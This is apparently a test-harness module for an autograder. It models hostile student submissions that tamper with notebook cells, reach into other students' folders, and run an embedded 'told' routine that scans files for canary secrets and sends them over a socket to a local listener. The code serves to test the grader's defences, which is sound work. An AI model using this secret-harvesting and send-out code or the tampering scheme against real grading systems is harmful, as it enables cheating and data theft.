"""One hostile submission: a name, an aim, and what it does to a folder that is handed in."""

from __future__ import annotations

import json
from dataclasses import dataclass
from pathlib import Path
from typing import TYPE_CHECKING, Any
from uuid import uuid4

import yaml

if TYPE_CHECKING:
    from collections.abc import Callable, Mapping

    from tests.hostile.scene import Scene

LESSON = "01_interrupt_before"
HERE = Path(__file__).parent

# Answers that earn nothing by themselves. A trick that is all a cell holds stands above one.
WRONG = {
    "supervise": "def supervise(builder):\n    return builder.compile(InMemorySaver())\n",
    "pending": "def pending(graph, config):\n    return []\n",
    "reject": "def reject(graph, config, reason):\n    pass\n",
}
# Prints the secrets in a file or in bytes, and sends them to whoever listens.
_TOLD = """def told(found):
    import re, socket
    if not isinstance(found, bytes):
        try:
            with open(found, "rb") as file:
                found = file.read(1 << 22)
        except OSError as error:
            return print(error)
    secrets = set(re.findall(rb"CANARY-[a-z]+-[0-9a-f]{32}", found))
    print(secrets or "nothing found")
    try:
        with socket.create_connection(("127.0.0.1", int("@PORT@")), 2) as out:
            out.sendall(b"@NAME@: " + b" ".join(secrets))
    except OSError as error:
        print(error)

"""


@dataclass(frozen=True)
class Attack:
    """A submission that wants what it did not earn.

    Attributes:
        name: in lower case; its student's name is made of it.
        aim: one sentence.
        group: the kind of attack it is.
        hand_in: changes a submission that holds the release and no attempts.
        student: its student's folder, where the name itself attacks.
        soak: whether it takes a limit of time or much memory to end it.
        worth: the points that an honest submission with its answers would earn.
    """

    name: str
    aim: str
    group: str
    hand_in: Callable[[Handed], None]
    student: str = ""
    soak: bool = False
    worth: float = 0

    @property
    def student_id(self) -> str:
        """The name of the folder in which it is handed in."""
        return self.student or f"m-{self.name}"


@dataclass(frozen=True)
class Handed:
    """A submission's folder, which an attack may change in any way.

    Attributes:
        scene: the course, its other students and its secrets.
        student: whose folder it is.
    """

    scene: Scene
    student: str

    @property
    def folder(self) -> Path:
        """The student's folder for the lesson."""
        return self.scene.course.submitted(self.student)

    @property
    def path(self) -> Path:
        """The notebook."""
        return self.folder / f"{LESSON}.ipynb"

    def of(self, victim: str) -> Path:
        """The folder of another student."""
        return self.scene.course.submitted(victim)

    def notebook(self) -> Any:
        """The notebook, as JSON."""
        return json.loads(self.path.read_text(encoding="utf-8"))

    def write(self, notebook: Any) -> None:
        """Write the notebook."""
        self.path.write_text(json.dumps(notebook), encoding="utf-8")

    def change(self, changed: Callable[[dict[str, Any]], None]) -> None:
        """Change the notebook's cells, given by their ids."""
        notebook = self.notebook()
        changed({cell["id"]: cell for cell in notebook["cells"]})
        self.write(notebook)

    def put(self, cells: Mapping[str, str]) -> None:
        """Put code into cells.

        Args:
            cells: code by the id of the cell it goes to; `start` is a new cell at the top. A cell
                that does not define its function gets a wrong answer below the code.
        """
        notebook = self.notebook()
        for cell in notebook["cells"]:
            if cell["id"] in WRONG:
                cell["source"] = self.answer(cell["id"], cells.get(cell["id"], ""))
        if "start" in cells:
            notebook["cells"].insert(0, new_code(self.filled_in(cells["start"])))
        self.write(notebook)

    def answer(self, name: str, code: str) -> str:
        """Return what a solution cell holds, from an attack's code in it."""
        told = _TOLD if "told(" in code else ""
        wrong = "" if f"def {name}(" in code else f"\n\n{WRONG[name]}"
        return self.filled_in(f"{told}{code}{wrong}".strip())

    def filled_in(self, code: str) -> str:
        """Return code with the places and names of this scene in it."""
        for word, meant in {**self.scene.words, "@NAME@": self.student}.items():
            code = code.replace(word, meant)
        return code


def new_code(source: str, metadata: Mapping[str, Any] | None = None) -> dict[str, Any]:
    """Return a new code cell, as JSON."""
    made = {"cell_type": "code", "id": uuid4().hex[:8], "metadata": dict(metadata or {})}
    return {**made, "execution_count": None, "outputs": [], "source": source}


def attacks_by_code(group: str) -> list[Attack]:
    """Read the attacks that are nothing but code: `<group>.yaml` beside this file."""
    entries = yaml.safe_load((HERE / f"{group}.yaml").read_text(encoding="utf-8"))
    return [
        Attack(
            entry["name"],
            entry["aim"],
            group,
            _putting(entry["cells"]),
            soak=entry.get("soak", False),
            worth=entry.get("worth", 0),
        )
        for entry in entries
    ]


def _putting(cells: Mapping[str, str]) -> Callable[[Handed], None]:
    unknown = cells.keys() - WRONG.keys() - {"start"}
    if unknown:
        raise ValueError(f"no cell of the lesson is meant by {unknown}")
    return lambda handed: handed.put(cells)
